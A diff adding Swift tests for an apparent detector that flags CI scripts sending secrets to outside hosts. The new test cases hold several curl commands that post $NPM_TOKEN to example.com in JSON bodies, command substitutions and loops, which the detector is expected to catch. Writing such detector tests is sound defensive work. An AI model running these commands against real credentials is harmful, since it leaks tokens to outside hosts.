@@ -55,3 +55,12 @@ private func sent(_ script: String, env: [String: String] = ["NPM_TOKEN": "${{ s
     #expect(!SecretSentToHostRule.belongs(secret: "GITHUB_TOKEN", host: "example.org", url: "https://example.org/x"))
     #expect(!SecretSentToHostRule.belongs(secret: "OPENAI_API_KEY", host: "proxy.example.net", url: "https://proxy.example.net/v1"))
 }
+
+@Test func quotedJSONBodiesAndSubstitutionsAreRead() {
+    #expect(sent("curl --data-raw '{\"key\": \"'\"$NPM_TOKEN\"'\"}' https://example.com/x").count == 1)
+    #expect(sent("curl --json \"{\\\"t\\\": \\\"$NPM_TOKEN\\\"}\" https://example.com/x").count == 1)
+    #expect(sent("RESULT=$(curl -s -d \"t=$NPM_TOKEN\" https://example.com/x)").count == 1)
+    #expect(sent("for i in 1 2; do curl -d \"t=$NPM_TOKEN\" https://example.com/$i; done").count == 1)
+    // A JSON body with only non-secret data next to an Authorization header is ordinary.
+    #expect(sent("curl -X POST -H \"Authorization: Bearer $NPM_TOKEN\" --json '{\"name\":\"x\"}' https://example.com/x").isEmpty)
+}
